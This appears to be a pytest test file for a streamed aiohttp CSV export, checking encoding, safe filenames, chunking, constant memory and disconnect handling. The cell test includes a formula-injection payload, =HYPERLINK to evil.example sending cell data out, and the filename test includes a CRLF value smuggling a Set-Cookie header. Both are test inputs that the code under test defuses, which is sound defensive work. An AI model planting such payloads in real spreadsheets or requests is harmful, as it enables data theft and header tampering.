"""Streamed CSV export: headers, encoding, formula injection, constant memory, early disconnect.

Threat: the export carries text that customers and staff typed (subjects, names,
comments) into a spreadsheet. A cell starting with `=`, `+`, `-`, `@`, a tab or a
CR is run by Excel or LibreOffice as a formula (CSV injection: `=HYPERLINK(...)`
sending data away, DDE commands). Also: a big export must not hold the whole file
in memory, and a client that hangs up must not leave a traceback or an open cursor.
"""

from __future__ import annotations

import asyncio
import csv
import functools
import io
import logging
import os
import threading
import time
import tracemalloc
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from aiohttp.web_runner import BaseRunner

from web_readonly.csv_export import BOM, CHUNK_SIZE, content_disposition, stream_csv

Client = TestClient[web.Request, web.Application]
Rows = AsyncIterator[Sequence[object]]
BIG = 1_000_000
MEMORY_BOUND = 20 * 2**20  # bytes more than before the export, while a million rows go out
PAGE = os.sysconf("SC_PAGE_SIZE")


async def rows_of(rows: Sequence[Sequence[object]]) -> Rows:
    for row in rows:
        yield row


@dataclass
class Export:
    """What the test route sends; a test sets it before its request."""

    filename: str = "tickets.csv"
    header: Sequence[str] = ("id", "subject")
    rows: Callable[[], Rows] = lambda: rows_of([])
    measure: bool = False
    peak: int = 0  # tracemalloc's peak during the export, when measured


EXPORT = web.AppKey("export", Export)


async def export_handler(request: web.Request) -> web.StreamResponse:
    export = request.app[EXPORT]
    rows = export.rows()
    if not export.measure:
        return await stream_csv(request, export.filename, export.header, rows)
    tracemalloc.start()
    try:
        return await stream_csv(request, export.filename, export.header, rows)
    finally:
        export.peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()


class AppRunnerServer(TestServer):
    """A TestServer whose handlers, as under `web.AppRunner` in production, are not cancelled
    when the client hangs up (TestServer cancels them): writing then raises instead."""

    async def _make_runner(self, **kwargs: Any) -> BaseRunner:
        kwargs["handler_cancellation"] = False
        return await super()._make_runner(**kwargs)


@pytest.fixture
async def served(request: pytest.FixtureRequest) -> AsyncIterator[tuple[Client, Export]]:
    """The test route on a server like production's, or with `indirect` param "cancelling"
    on one that cancels handlers (aiohttp's TestServer, `handler_cancellation=True`)."""
    export = Export()
    app = web.Application()
    app[EXPORT] = export
    app.router.add_get("/export.csv", export_handler)
    cancelling = getattr(request, "param", "") == "cancelling"
    client: Client = TestClient(TestServer(app) if cancelling else AppRunnerServer(app))
    await client.start_server()
    yield client, export
    await client.close()


async def download(client: Client) -> tuple[dict[str, str], bytes]:
    response = await client.get("/export.csv")
    assert response.status == 200
    return dict(response.headers), await response.read()


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# --- headers and encoding -----------------------------------------------------------


async def test_an_attachment_of_utf8_csv_that_starts_with_a_bom(
    served: tuple[Client, Export],
) -> None:
    client, export = served
    export.rows = lambda: rows_of([(1, "Printer jams")])
    headers, body = await download(client)
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    assert headers["Content-Disposition"] == 'attachment; filename="tickets.csv"'
    assert headers["Cache-Control"] == "no-store"
    assert body.startswith(BOM)
    assert body[len(BOM) :] == b"id,subject\r\n1,Printer jams\r\n"


async def test_cyrillic_survives_the_round_trip_and_names_the_file(
    served: tuple[Client, Export],
) -> None:
    client, export = served
    export.filename = "Заявки за май.csv"
    export.header = ("№", "Тема", "Заявитель")
    rows = [
        (1, "Не печатает принтер, «срочно»", "Иванова Ёлка"),
        (2, 'Строка с "кавычками"\nи переносом', "Пётр; Сидоров"),
    ]
    export.rows = lambda: rows_of(rows)
    headers, body = await download(client)
    disposition = headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="export.csv"; ')
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "Заявки за май.csv"
    assert disposition.isascii()
    assert read_csv(body) == [list(export.header), *[[str(c) for c in row] for row in rows]]


@pytest.mark.parametrize(
    ("filename", "plain"),
    [
        ("tickets.csv", "tickets.csv"),
        ("café 2026.csv", "cafe 2026.csv"),
        ('a"b;c\r\nSet-Cookie: x.csv', "a_b_c_Set-Cookie_ x.csv"),
        ("", "export.csv"),
    ],
)
def test_the_plain_filename_is_always_safe_ascii(filename: str, plain: str) -> None:
    disposition = content_disposition(filename)
    assert disposition.startswith(f'attachment; filename="{plain}"')
    assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
    assert ("filename*=" in disposition) == (plain != (filename or "export.csv"))


# --- cells --------------------------------------------------------------------------


async def test_formulas_are_defused_and_values_formatted(served: tuple[Client, Export]) -> None:
    client, export = served
    export.header = ("cell",)
    cells: list[tuple[object, str]] = [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+7 912 000-00-00", "'+7 912 000-00-00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a = b", "a = b"),
        ("'quoted already", "'quoted already"),
        (-5, "-5"),  # our own numbers stay numbers
        (2.5, "2.5"),
        (Decimal("1.50"), "1.50"),
        (None, ""),
        (datetime(2026, 5, 1, 9, 7, 33), "2026-05-01 09:07"),
        (date(2026, 5, 1), "2026-05-01"),
        ("", ""),
    ]  # fmt: skip
    export.rows = lambda: rows_of([(value,) for value, _ in cells])
    _, body = await download(client)
    assert read_csv(body)[1:] == [[expected] for _, expected in cells]


async def test_rows_go_out_in_chunks_of_about_64_kb(
    served: tuple[Client, Export], monkeypatch: pytest.MonkeyPatch
) -> None:
    client, export = served
    written: list[int] = []
    write = web.StreamResponse.write

    async def counted(self: web.StreamResponse, data: bytes | bytearray | memoryview) -> None:
        written.append(len(data))
        await write(self, data)

    monkeypatch.setattr(web.StreamResponse, "write", counted)
    row = (1, "x" * 90)  # 95 bytes a line
    export.rows = lambda: rows_of([row] * 3000)
    _, body = await download(client)
    assert len(read_csv(body)) == 3001
    assert written[0] == len(BOM) + len(b"id,subject\r\n")  # the header goes out at once
    assert len(written) == 1 + 5
    assert all(CHUNK_SIZE <= size < CHUNK_SIZE + 100 for size in written[1:-1])
    assert sum(written) == len(body)


# --- a million rows -----------------------------------------------------------------


async def many_rows(count: int) -> Rows:
    opened = datetime(2026, 5, 1, 9, 30)
    for number in range(count):
        yield (number, "Не печатает принтер на 3 этаже", opened, None, "Иванова")


def resident_bytes() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * PAGE


class PeakResident:
    """The process's largest resident memory while in the block, sampled every 5 ms by a thread
    (tracemalloc would make a million rows five times slower)."""

    def __init__(self) -> None:
        self.baseline = self.peak = resident_bytes()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.005):
            self.peak = max(self.peak, resident_bytes())

    def __enter__(self) -> PeakResident:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, resident_bytes())


async def count_lines(client: Client) -> tuple[int, int, bytes]:
    """Lines, bytes and the last bytes of the export, read as it comes."""
    response = await client.get("/export.csv")
    lines = size = 0
    tail = b""
    async for chunk in response.content.iter_chunked(CHUNK_SIZE):
        lines += chunk.count(b"\n")
        size += len(chunk)
        tail = (tail + chunk)[-200:]
    return lines, size, tail


async def test_a_million_rows_stream_in_constant_memory(served: tuple[Client, Export]) -> None:
    client, export = served
    export.header = ("id", "subject", "opened", "closed", "customer")
    export.rows = lambda: many_rows(BIG)
    started = time.perf_counter()
    with PeakResident() as memory:
        lines, size, tail = await count_lines(client)
    elapsed = time.perf_counter() - started
    growth = memory.peak - memory.baseline
    print(f"\n{BIG:,} rows, {size / 2**20:.1f} MiB in {elapsed:.1f} s, resident memory "
          f"{memory.baseline / 2**20:.1f} MiB + {growth / 2**20:.1f} MiB at most")  # fmt: skip
    assert lines == BIG + 1
    last = f"{BIG - 1},Не печатает принтер на 3 этаже,2026-05-01 09:30,,Иванова\r\n"
    assert tail.endswith(last.encode())
    assert size > 4 * MEMORY_BOUND  # held whole, the file alone would break the bound
    assert growth < MEMORY_BOUND


async def test_python_allocations_do_not_grow_with_the_row_count(
    served: tuple[Client, Export],
) -> None:
    client, export = served
    export.header = ("id", "subject", "opened", "closed", "customer")
    export.measure = True
    peaks, sizes = [], []
    for count in (50_000, 200_000):
        export.rows = functools.partial(many_rows, count)
        lines, size, _ = await count_lines(client)
        assert lines == count + 1
        peaks.append(export.peak)
        sizes.append(size)
    print(f"\npeak Python allocations {peaks[0] / 2**20:.2f} MiB for 50,000 rows, "
          f"{peaks[1] / 2**20:.2f} MiB for 200,000")  # fmt: skip
    assert peaks[1] < MEMORY_BOUND
    # 150,000 more rows, 14 MiB more CSV: not a MiB more memory
    assert sizes[1] - sizes[0] > 10 * 2**20
    assert peaks[1] < peaks[0] + 2**20


# --- a client that hangs up ---------------------------------------------------------


@pytest.mark.parametrize("served", ["production", "cancelling"], indirect=True)
async def test_a_client_that_hangs_up_ends_the_export_quietly(
    served: tuple[Client, Export], caplog: pytest.LogCaptureFixture
) -> None:
    client, export = served
    closed = asyncio.Event()
    produced = 0

    async def endless() -> Rows:
        nonlocal produced
        try:
            while True:
                produced += 1
                yield (produced, "x" * 100)
        finally:
            closed.set()

    export.rows = endless
    caplog.set_level(logging.DEBUG)
    response = await client.get("/export.csv")
    await response.content.readexactly(CHUNK_SIZE)
    response.close()
    await asyncio.wait_for(closed.wait(), timeout=10)
    await asyncio.sleep(0.1)  # let aiohttp finish the request and log what it would
    assert produced < 100_000  # stopped soon after, not after running on for long
    problems = [r for r in caplog.records if r.levelno >= logging.WARNING or r.exc_info]
    assert problems == []
    if not isinstance(client.server, AppRunnerServer):
        return  # the handler was cancelled in its `await response.write()`: nothing to say
    assert any("client went away" in r.getMessage() for r in caplog.records)
